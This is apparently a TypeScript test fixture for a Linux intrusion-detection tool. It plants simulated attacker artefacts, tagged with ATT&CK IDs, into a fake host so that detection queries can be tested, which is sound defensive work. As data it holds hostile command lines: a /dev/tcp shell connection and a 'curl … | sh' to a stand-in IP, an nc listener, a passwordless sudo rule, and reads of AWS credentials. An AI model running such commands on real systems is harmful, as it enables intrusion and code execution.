import {
  addFile,
  addListener,
  addRow,
  addUnit,
  digestOf,
  type SimulatedHost
} from '../../simulator/fleet/host.ts'
import { seededRandom } from '../../simulator/fleet/random.ts'
import type { Row } from '../../src/snapshot/snapshot.ts'
import { change, connect, pidOf, run as start } from './host-changes.ts'

/** What an intruder does on one host, and the query that shows it. */
export interface Technique {
  readonly attack: string
  readonly query: string
  readonly what: string
  plant(host: SimulatedHost): void
  /** What the query answers, where no table of the simulated host can show it. */
  readonly answer?: Row
}

const random = seededRandom(7)
/** Starts a program in the unit of cron. */
const run = (host: SimulatedHost, path: string, cmdline: string, columns: object = {}): number =>
  start(host, path, cmdline, { cgroup_path: '/system.slice/cron.service', ...columns })

/** Changes a file of a package by hand, long after any package was installed. */
const edit = (path: string) => (host: SimulatedHost) => {
  const row = { type: 'regular', mode: '0644', uid: 0, symlink: 0 }
  addRow(host, 'file', { ...row, path: '/var/lib/dpkg/info/base-files.list', ctime: 1_760_000_000 })
  addRow(host, 'file', { ...row, path, ctime: 1_794_900_000 })
}

const PUBLIC = '203.0.113.66'

/** One way for each query that accuses, and more where a query has several things to see. */
export const TECHNIQUES: readonly Technique[] = [
  {
    attack: 'T1547.006',
    query: 'kernel_modules',
    what: 'a kernel module',
    plant: host => addRow(host, 'kernel_modules', { name: 'snd_helperd', status: 'Live', used_by: '-' })
  },
  {
    attack: 'T1014',
    query: 'kernel_taint',
    what: 'a kernel module that hides itself',
    plant: host => change(host, 'system_controls', 'name', 'kernel.tainted', { current_value: '12288' })
  },
  {
    attack: 'T1574.006',
    query: 'preload_file',
    what: 'a library in `/etc/ld.so.preload`',
    plant: host => addFile(host, '/etc/ld.so.preload', 'preload')
  },
  {
    attack: 'T1574.006',
    query: 'loader_environment',
    what: 'a service started with `LD_PRELOAD`',
    plant: host =>
      addRow(host, 'process_envs', {
        pid: pidOf(host, '/usr/sbin/cron'),
        key: 'LD_PRELOAD',
        value: '/usr/lib/libx.so'
      })
  },
  {
    attack: 'T1620',
    query: 'memory_only_programs',
    what: 'a program from memory',
    plant: host => run(host, '/memfd:upd', 'upd', { on_disk: 0, name: 'upd' })
  },
  {
    attack: 'T1070.004',
    query: 'memory_only_programs',
    what: 'a deleted program, beside a file that is named `NAME (deleted)`',
    plant: host => run(host, '/usr/local/bin/agentd (deleted)', 'agentd', { on_disk: 1 })
  },
  {
    attack: 'T1136.001',
    query: 'root_accounts',
    what: 'a second account with user id 0',
    plant: host =>
      addRow(host, 'users', { username: 'sysadm', uid: 0, shell: '/bin/bash', directory: '/root' })
  },
  {
    attack: 'T1098.004',
    query: 'authorized_keys',
    what: 'a key for root',
    plant: host => addRow(host, 'authorized_keys', { uid: 0, algorithm: 'ssh-ed25519', key: 'AAAAintruder' })
  },
  {
    attack: 'T1548.003',
    query: 'sudoers',
    what: 'a sudo rule',
    plant: host => addRow(host, 'sudoers', { header: 'www-data', rule_details: 'ALL=(ALL) NOPASSWD: ALL' })
  },
  {
    attack: 'T1548.001',
    query: 'setuid_files',
    what: 'a setuid program beside others',
    plant: host => addFile(host, '/usr/local/bin/chk', 'chk', { mode: '4755' })
  },
  {
    attack: 'T1548.001',
    query: 'setuid_elsewhere',
    what: 'a setuid program three folders deep',
    plant: host => addFile(host, '/opt/app/lib/chk', 'chk', { mode: '4755' })
  },
  {
    attack: 'T1548.001',
    query: 'file_capabilities',
    what: 'a program with `cap_setuid`',
    plant: host =>
      addRow(host, 'extended_attributes', {
        path: '/usr/bin/python3.11',
        directory: '/usr/bin',
        key: 'security.capability',
        value: 'cap_setuid=ep'
      })
  },
  {
    attack: 'T1685',
    query: 'security_controls',
    what: 'auditd stopped',
    plant: host =>
      change(host, 'systemd_units', 'id', 'auditd.service', { active_state: 'inactive', sub_state: 'dead' })
  },
  {
    attack: 'T1489',
    query: 'service_states',
    what: 'a service that failed',
    plant: host =>
      change(host, 'systemd_units', 'id', 'node-exporter.service', {
        active_state: 'failed',
        sub_state: 'failed'
      })
  },
  {
    attack: 'T1036.005',
    query: 'temporary_programs',
    what: 'a program in `/tmp`',
    plant: host => run(host, '/tmp/.cache/upd', '/tmp/.cache/upd')
  },
  {
    attack: 'T1036.004',
    query: 'kernel_thread_impostors',
    what: 'a program that calls itself `[kworker/0:3]`',
    plant: host => run(host, '/usr/local/sbin/kw', '[kworker/0:3]')
  },
  {
    attack: 'T1564',
    query: 'hidden_parents',
    what: 'a program whose parent something hides',
    plant: host => run(host, '/usr/bin/dash', 'sh', { parent: 4_321 })
  },
  {
    attack: 'T1014',
    query: 'hidden_processes',
    what: 'a process that answers to its number and is in no list',
    plant: () => undefined,
    answer: { name: 'kdevtmpfsd', path: '/usr/bin/kdevtmpfsd', username: 'root', cmdline: '', parent: '1' }
  },
  {
    attack: 'T1543.002',
    query: 'programs',
    what: 'a program under `/usr/lib/apt`, with a connection',
    plant: host => connect(host, run(host, '/usr/lib/apt/methods/upd', '/usr/lib/apt/methods/upd'), PUBLIC)
  },
  {
    attack: 'T1059.004',
    query: 'network_commands',
    what: '`bash -c … /dev/tcp` in a unit that is named as one of apt',
    plant: host =>
      run(host, '/usr/bin/bash', `bash -c "exec 3<>/dev/tcp/${PUBLIC}/443"`, {
        cgroup_path: '/system.slice/apt-daily-fix.service'
      })
  },
  {
    attack: 'T1105',
    query: 'network_commands',
    what: '`curl … | sh` from cron',
    plant: host => run(host, '/usr/bin/dash', '/bin/sh -c curl -fs http://203.0.113.66/a | sh')
  },
  {
    attack: 'T1505.003',
    query: 'service_shells',
    what: 'a shell of the web server',
    plant: host => run(host, '/usr/bin/dash', 'sh -c id', { parent: pidOf(host, '/usr/sbin/nginx'), uid: 33 })
  },
  {
    attack: 'T1095',
    query: 'shell_connections',
    what: 'a shell with a connection',
    plant: host => connect(host, run(host, '/usr/bin/bash', 'bash'), PUBLIC)
  },
  {
    attack: 'T1059.006',
    query: 'interpreter_connections',
    what: 'Python of the web account with a connection',
    plant: host => connect(host, run(host, '/usr/bin/python3.11', 'python3 -', { uid: 33 }), PUBLIC)
  },
  {
    attack: 'T1059.004',
    query: 'socket_input',
    what: 'a program whose input is a connection',
    plant: host => connect(host, run(host, '/usr/local/bin/x', 'x'), PUBLIC, { fd: 0 })
  },
  {
    attack: 'T1055',
    query: 'mapped_from_writable',
    what: 'a library from `/dev/shm` in a service',
    plant: host =>
      addRow(host, 'process_memory_map', {
        pid: pidOf(host, '/usr/sbin/cron'),
        permissions: 'r-xp',
        path: '/dev/shm/.x.so'
      })
  },
  {
    attack: 'T1554',
    query: 'login_libraries',
    what: 'a foreign library in sshd',
    plant: host =>
      addRow(host, 'process_memory_map', {
        pid: pidOf(host, '/usr/sbin/sshd'),
        permissions: 'r-xp',
        path: '/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.9'
      })
  },
  {
    attack: 'T1571',
    query: 'listening_ports',
    what: 'a listener on port 4444',
    plant: host =>
      addListener(host, random, run(host, '/usr/bin/nc.openbsd', 'nc -lk 4444'), 6, '0.0.0.0', 4_444)
  },
  {
    attack: 'T1205.002',
    query: 'packet_sockets',
    what: 'a packet socket of a hidden process',
    plant: host => addRow(host, 'listening_ports', { pid: -1, family: 17, protocol: 3, port: 0, address: '' })
  },
  {
    attack: 'T1053.003',
    query: 'crontab',
    what: 'a cron line of root',
    plant: host =>
      addRow(host, 'crontab', { path: '/etc/cron.d/upd', command: 'root /usr/local/sbin/upd', minute: '*' })
  },
  {
    attack: 'T1543.002',
    query: 'systemd_units',
    what: 'a unit',
    plant: host => addUnit(host, 'netd-helper.service', '/etc/systemd/system', 'active', 'enabled')
  },
  {
    attack: 'T1543.002',
    query: 'unit_files',
    what: 'a drop-in for a unit',
    plant: host => addFile(host, '/etc/systemd/system/cron.service.d/10-env.conf', 'drop-in')
  },
  {
    attack: 'T1543.002',
    query: 'unit_files',
    what: 'another content of a unit that starts on demand',
    plant: host =>
      change(host, 'hash', 'path', '/usr/lib/systemd/system/logrotate.service', { sha256: digestOf('evil') })
  },
  {
    attack: 'T1543.002',
    query: 'unit_links',
    what: 'a unit linked into a target by hand',
    plant: host =>
      addRow(host, 'file', {
        path: '/usr/lib/systemd/system/sysinit.target.wants/upd.service',
        type: 'regular',
        symlink: 1
      })
  },
  ...[
    ['T1037.004', '/etc/rc.local', '`/etc/rc.local`'],
    ['T1053.003', '/etc/cron.monthly/upd', 'a script in `/etc/cron.monthly`'],
    ['T1053.002', '/var/spool/cron/atjobs/a0000101', 'an `at` job'],
    ['T1546.004', '/etc/profile.d/z.sh', 'a script in `/etc/profile.d`']
  ].map(([attack = '', path = '', what = '']) => fileTechnique('boot_scripts', attack, path, what)),
  ...[
    ['T1546.016', '/etc/apt/apt.conf.d/99upd', 'a hook of apt'],
    ['T1546.017', '/etc/udev/rules.d/99-upd.rules', 'a udev rule'],
    ['T1546.018', '/usr/local/lib/python3.11/dist-packages/upd.pth', 'a Python start-up file'],
    ['T1037', '/etc/NetworkManager/dispatcher.d/99-upd', 'a hook of NetworkManager'],
    ['T1542', '/etc/grub.d/99_upd', 'a script of the boot loader']
  ].map(([attack = '', path = '', what = '']) => fileTechnique('system_hooks', attack, path, what)),
  fileTechnique(
    'user_units',
    'T1543.002',
    '/home/alice/.config/systemd/user/upd.service',
    'a unit of a user'
  ),
  fileTechnique('user_units', 'T1546.004', '/root/.ssh/rc', 'an SSH rc file of root'),
  fileTechnique('login_config', 'T1556.003', '/etc/pam.d/common-session-x', 'a PAM file'),
  {
    attack: 'T1685',
    query: 'watching_config',
    what: 'other rules for audit',
    plant: host =>
      change(host, 'hash', 'path', '/etc/audit/rules.d/audit.rules', { sha256: digestOf('no rules') })
  },
  {
    attack: 'T1554',
    query: 'core_programs',
    what: 'another `ps` of the same package version',
    plant: host => change(host, 'hash', 'path', '/usr/bin/ps', { sha256: digestOf('evil ps') })
  },
  {
    attack: 'T1554',
    query: 'changed_package_files',
    what: 'a program that is not what its RPM package brought',
    plant: host =>
      addRow(host, 'rpm_package_files', {
        package: 'procps-ng',
        path: '/usr/bin/ps',
        mode: '0755',
        sha256: digestOf('ps of the package')
      })
  },
  {
    attack: 'T1003.007',
    query: 'credential_readers',
    what: 'a program that reads the memory of another',
    plant: host =>
      addRow(host, 'process_open_files', {
        pid: run(host, '/usr/bin/python3.11', 'python3 -'),
        fd: 4,
        path: `/proc/${pidOf(host, '/usr/sbin/sshd')}/mem`
      })
  },
  {
    attack: 'T1552.001',
    query: 'credential_readers',
    what: 'a program of the web account that holds credentials of AWS open',
    plant: host =>
      addRow(host, 'process_open_files', {
        pid: run(host, '/usr/bin/gawk', 'gawk 1', { uid: 33 }),
        fd: 4,
        path: '/home/alice/.aws/credentials'
      })
  },
  {
    attack: 'T1556.003',
    query: 'pam_modules',
    what: 'another `pam_unix.so` of the same package version',
    plant: host =>
      change(host, 'hash', 'path', '/usr/lib/x86_64-linux-gnu/security/pam_unix.so', {
        sha256: digestOf('evil pam')
      })
  },
  fileTechnique(
    'pam_modules',
    'T1556.003',
    '/usr/lib/x86_64-linux-gnu/security/pam_upd.so',
    'a PAM module of no package'
  ),
  {
    attack: 'T1136.001',
    query: 'users',
    what: 'an account with a shell',
    plant: host =>
      addRow(host, 'users', {
        username: 'support',
        uid: 1_005,
        shell: '/bin/bash',
        directory: '/home/support'
      })
  },
  {
    attack: 'T1078.003',
    query: 'passwords',
    what: 'a password for a service account',
    plant: host =>
      change(host, 'shadow', 'username', 'www-data', { password_status: 'active', hash_alg: '6' })
  },
  {
    attack: 'T1098.007',
    query: 'admin_groups',
    what: 'a service account in the group sudo',
    plant: host => addRow(host, 'user_groups', { uid: 33, gid: 27 })
  },
  {
    attack: 'T1564.001',
    query: 'hidden_programs',
    what: 'a hidden folder in `/usr/lib`',
    plant: host => addRow(host, 'file', { path: '/usr/lib/.x', type: 'directory', mode: '0755', uid: 0 })
  },
  {
    attack: 'T1546.004',
    query: 'user_start_up',
    what: 'a changed `.bashrc` of a person',
    plant: host => change(host, 'hash', 'path', '/home/alice/.bashrc', { sha256: digestOf('evil') })
  },
  {
    attack: 'T1205.002',
    query: 'bpf_pins',
    what: 'a pinned eBPF program',
    plant: host => addRow(host, 'file', { path: '/sys/fs/bpf/upd', type: 'regular', uid: 0 })
  },
  {
    attack: 'T1685',
    query: 'sysctls',
    what: 'a program that gets core dumps',
    plant: host =>
      change(host, 'system_controls', 'name', 'kernel.core_pattern', { current_value: '|/usr/local/bin/x' })
  },
  {
    attack: 'T1685',
    query: 'kernel_arguments',
    what: 'a boot without audit',
    plant: host => change(host, 'kernel_info', 'version', '6.1.0-26-cloud-amd64', { arguments: 'ro audit=0' })
  },
  {
    attack: 'T1565.001',
    query: 'name_resolution',
    what: 'a name in `/etc/hosts`',
    plant: host => addRow(host, 'etc_hosts', { address: PUBLIC, hostnames: 'deb.debian.org' })
  },
  {
    attack: 'T1686',
    query: 'firewall',
    what: 'a rule of iptables',
    plant: host =>
      addRow(host, 'iptables', {
        filter_name: 'filter',
        chain: 'INPUT',
        policy: '',
        target: 'ACCEPT',
        protocol: 6,
        src_ip: PUBLIC
      })
  },
  {
    attack: 'T1686',
    query: 'firewall_config',
    what: 'other rules for nftables',
    plant: host => change(host, 'hash', 'path', '/etc/nftables.conf', { sha256: digestOf('accept all') })
  },
  {
    attack: 'T1195.002',
    query: 'package_sources',
    what: 'a package repository',
    plant: host =>
      addRow(host, 'apt_sources', { name: 'x', base_uri: 'http://203.0.113.66/debian', release: 'stable' })
  },
  fileTechnique('package_source_files', 'T1195.002', '/etc/apt/trusted.gpg.d/x.asc', 'a key for packages'),
  fileTechnique(
    'trust_anchors',
    'T1553.004',
    '/usr/local/share/ca-certificates/x.crt',
    'a certificate authority'
  ),
  fileTechnique('container_config', 'T1610', '/etc/kubernetes/manifests/x.yaml', 'a static pod'),
  {
    attack: 'T1611',
    query: 'privileged_containers',
    what: 'a privileged container',
    plant: host =>
      addRow(host, 'docker_containers', { id: 'c49', image: 'alpine', privileged: 1, name: '/x' })
  },
  {
    attack: 'T1611',
    query: 'container_mounts',
    what: 'a container that mounts the root of the host',
    plant: host => {
      addRow(host, 'docker_containers', { id: 'c50', image: 'alpine', privileged: 0, name: '/x' })
      addRow(host, 'docker_container_mounts', {
        id: 'c50',
        type: 'bind',
        source: '/',
        destination: '/mnt',
        rw: 1
      })
    }
  },
  {
    attack: 'T1543.002',
    query: 'vendor_files',
    what: 'another content of a unit of a package',
    plant: edit('/usr/lib/systemd/system/cron.service')
  },
  {
    attack: 'T1546.017',
    query: 'vendor_files',
    what: 'a udev rule among those of packages',
    plant: edit('/usr/lib/udev/rules.d/60-upd.rules')
  },
  {
    attack: 'T1554',
    query: 'vendor_files',
    what: 'another library of the system',
    plant: edit('/usr/lib/x86_64-linux-gnu/liblzma.so.5.4.1')
  },
  {
    attack: 'T1546.016',
    query: 'vendor_files',
    what: 'a changed script of an installed package',
    plant: edit('/var/lib/dpkg/info/openssh-server.postinst')
  },
  {
    attack: 'T1095',
    query: 'unowned_connections',
    what: 'a connection of a process that something hides',
    plant: host => connect(host, -1, PUBLIC, { socket: 4_711 })
  },
  {
    attack: 'T1564.001',
    query: 'hidden_folders',
    what: 'a program that works in a hidden folder',
    plant: host => run(host, '/usr/bin/perl', 'perl', { cwd: '/var/lib/.x' })
  },
  {
    attack: 'T1070.002',
    query: 'log_files',
    what: 'a log that was replaced by `/dev/null`',
    plant: host => addRow(host, 'file', { path: '/var/log/auth.log', type: 'character', symlink: 1 })
  },
  {
    attack: 'T1070.003',
    query: 'log_files',
    what: 'a history that goes to `/dev/null`',
    plant: host => addRow(host, 'file', { path: '/root/.bash_history', type: 'character', symlink: 1 })
  },
  fileTechnique('web_scripts', 'T1505.003', '/var/www/html/upd.php', 'a script in the folder of a web site'),
  {
    attack: 'T1059.004',
    query: 'sessions',
    what: 'a shell of root over SSH',
    plant: host => start(host, '/usr/bin/bash', '-bash', { parent: pidOf(host, '/usr/sbin/sshd') })
  },
  {
    attack: 'T1046',
    query: 'session_programs',
    what: 'a scan that a person runs',
    plant: host => {
      const session = { uid: 1_000, cgroup_path: '/user.slice/user-1000.slice/session-9.scope' }
      connect(host, start(host, '/usr/bin/nmap', 'nmap -p- 10.0.0.0/8', session), PUBLIC)
    }
  },
  {
    attack: 'T1548',
    query: 'package_runs',
    what: 'a package manager of the web account',
    plant: host => run(host, '/usr/bin/dpkg', 'dpkg -i /tmp/x.deb', { uid: 33 })
  },
  {
    attack: 'T1564.001',
    query: 'hidden_files',
    what: 'a hidden folder in `/var/lib`',
    plant: host => addRow(host, 'file', { path: '/var/lib/.x/', type: 'directory', mode: '0700', uid: 0 })
  },
  {
    attack: 'T1611',
    query: 'container_sockets',
    what: 'a container that commands Docker',
    plant: host => {
      addRow(host, 'docker_containers', { id: 'c63', image: 'alpine', privileged: 0, name: '/x' })
      addRow(host, 'docker_container_mounts', {
        id: 'c63',
        type: 'bind',
        source: '/var/run/docker.sock',
        destination: '/var/run/docker.sock',
        rw: 1
      })
    }
  },
  {
    attack: 'T1564.013',
    query: 'proc_mounts',
    what: 'a mount over a process',
    plant: host => {
      addRow(host, 'file', { path: '/proc/4242/', type: 'directory', mode: '0755', size: 4_096, inode: 2 })
    }
  }
]

function fileTechnique(query: string, attack: string, path: string, what: string): Technique {
  return { attack, query, what, plant: host => addFile(host, path, `${what} of an intruder`) }
}
